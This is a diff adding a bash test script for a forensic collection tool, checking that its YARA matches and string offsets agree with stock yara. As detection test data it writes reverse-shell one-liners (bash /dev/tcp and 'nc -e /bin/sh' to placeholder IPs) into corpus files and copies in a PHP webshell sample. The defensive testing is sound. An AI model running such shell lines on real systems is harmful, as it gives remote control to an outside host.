@@ -1,0 +1,95 @@
+#!/bin/bash
+# Copyright 2026 csirt-collect developers
+# SPDX-License-Identifier: Apache-2.0
+#
+# YARA (issue 5), checked against the stock yara and yarac: the built-in
+# rules on their samples; the agent's (rule, file) matches and string
+# offsets on a generated corpus equal `yara -r -s`; the Loki externals;
+# signature-base as one rule set; a process holding a marker; a broken
+# rule file; a sweep through a sparse file, a FIFO and an unreadable file.
+. "$(dirname "$0")/lib.sh"
+
+RULES=$CC_TOP/rules
+SB=$SHARED/signature-base
+ROOT=$T/root
+C=$ROOT/corpus
+
+# A sample: "#!elf-shared-object" as first line stands for an ELF header.
+materialise() {
+	if [ "$(head -n 1 "$1")" = "#!elf-shared-object" ]; then
+		{ printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000'
+		  printf '\003\000\076\000'; head -c 44 /dev/zero
+		  tail -n +2 "$1"; } >"$2"
+	else cp "$1" "$2"; fi
+}
+
+# --- The default rules on their samples (stock yara) -------------------
+mkdir -p "$C/samples" "$C/gen/a/b" "$C/ext/sub" "$C/ext/deep"
+for s in "$CC_TOP"/tests/rules/*.yes "$CC_TOP"/tests/rules/*.no; do
+	materialise "$s" "$C/samples/$(basename "$s")"
+done
+bad=""
+for s in "$C"/samples/*.yes "$C"/samples/*.no; do
+	r=$(basename "${s%.*}")
+	got=$(yara "$RULES"/*.yar "$s" 2>/dev/null | cut -d' ' -f1 | grep -cx "$r")
+	case "$s" in *.yes) [ "$got" -eq 1 ] || bad="$bad $r.yes" ;;
+	*) [ "$got" -eq 0 ] || bad="$bad $r.no" ;; esac
+done
+nrules=$(cat "$RULES"/*.yar | grep -c '^rule ')
+nyes=$(ls "$CC_TOP"/tests/rules/*.yes | wc -l)
+[ -z "$bad" ] && [ "$nrules" -eq "$nyes" ] &&
+	ok "each of the $nrules default rules matches its .yes sample and not its .no (stock yara)" ||
+	nok "default rules vs samples:$bad (rules $nrules, samples $nyes)"
+
+# --- A generated corpus: agent vs stock yara -r -s ---------------------
+for i in $(seq 1 40); do
+	head -c $((i * 1500)) /dev/urandom | base64 >"$C/gen/r$i.txt"
+done
+for i in 1 2 3; do	# patterns at known places, some duplicated content
+	{ head -c $((i * 7000)) /dev/zero | tr '\0' 'a'
+	  printf '\nbash -i >& /dev/tcp/198.51.100.%d/443 0>&1\n' "$i"
+	  head -c 500 /dev/zero | tr '\0' 'b'; printf '\nnc 10.0.0.1 9 -e /bin/sh\n'
+	} >"$C/gen/a/shell$i.sh"
+	cp "$C/gen/a/shell$i.sh" "$C/gen/a/b/copy$i.sh"
+done
+cp "$C/samples/CC_Webshell_PHP_Eval_Request.yes" "$C/gen/a/b/up.php"
+
+mkdir "$T/o1"
+check_rc "a dead-box sweep with the built-in rules exits 0" 0 \
+	"$CC_BIN" run --root "$ROOT" --scan-path /corpus --output "$T/o1" --json --quiet
+A=$(archive_in "$T/o1"); mkdir "$T/x1"; tar --zstd -xf "$A" -C "$T/x1" 2>/dev/null
+M=$T/x1/yara/matches.jsonl
+jq -r 'select(.target=="file" and (.path|startswith("/corpus/"))) | "\(.rule) \(.path)"' "$M" |
+	sort -u >"$T/agent.pairs"
+(cd "$ROOT" && yara -r "$RULES"/*.yar corpus 2>/dev/null) | sed 's| corpus/| /corpus/|' |
+	sort -u >"$T/stock.pairs"
+if [ -s "$T/stock.pairs" ] && cmp -s "$T/agent.pairs" "$T/stock.pairs"; then
+	ok "(rule, file) matches equal stock yara -r ($(wc -l <"$T/stock.pairs") pairs)"
+else nok "(rule, file) differ from yara -r:"; diff "$T/agent.pairs" "$T/stock.pairs" | head; fi
+jq -r 'select(.target=="file" and (.path|startswith("/corpus/"))) |
+	.rule as $r | .path as $p | .strings[] | "\($r) \($p) \(.offset) \(.id)"' "$M" |
+	sort -u >"$T/agent.str"
+(cd "$ROOT" && yara -r -s "$RULES"/*.yar corpus 2>/dev/null) | awk '
+	function hex(s,  i, n) { n = 0; s = tolower(substr(s, 3))
+		for (i = 1; i <= length(s); i++) n = n * 16 + index("0123456789abcdef", substr(s, i, 1)) - 1
+		return n }
+	/^0x/ { split($0, f, ":"); printf "%s %s %d %s\n", r, p, hex(f[1]), f[2]; next }
+	{ r = $1; p = "/" $2 }' | sort -u >"$T/stock.str"
+if [ -s "$T/stock.str" ] && cmp -s "$T/agent.str" "$T/stock.str"; then
+	ok "string ids and offsets equal stock yara -s ($(wc -l <"$T/stock.str") strings)"
+else nok "string offsets differ from yara -s:"; diff "$T/agent.str" "$T/stock.str" | head; fi
+check "match records carry rule, namespace, tags, meta, target, path, sha256, strings" \
+	jqe -s 'length > 0 and all(.[]; has("rule") and has("namespace") and (.tags|type=="array")
+	  and (.meta|has("description") and has("author") and has("date") and has("reference"))
+	  and .target=="file" and has("path") and (.sha256|length==64) and (.strings|type=="array"))' "$M"
+p=$(jq -r 'select(.path=="/corpus/gen/a/b/up.php") | .sha256' "$M" | head -n 1)
+check "the record's sha256 is the file's" test "$p" = "$(sha256sum <"$C/gen/a/b/up.php" | cut -d' ' -f1)"
+check "matching swept files are archived under files/" \
+	cmp -s "$C/gen/a/b/up.php" "$T/x1/files/corpus/gen/a/b/up.php"
+check "files that do not match are not archived" test ! -e "$T/x1/files/corpus/gen/r1.txt"
+check "manifest rules: built-in source, version and sha256" \
+	jqe '.rules.source=="built-in" and (.rules.sha256|length==64) and .rules.version != null' "$T/x1/manifest.json"
+check "--json summary counts matches by rule" \
+	jqe '.yara.matches > 0 and .yara.rules.CC_ReverseShell_Bash_DevTcp >= 6' "$T/.out"
+check "matches.jsonl is listed in the manifest with its hash" \
+	jqe '.entries[] | select(.path=="yara/matches.jsonl") | .sha256' "$T/x1/manifest.json"
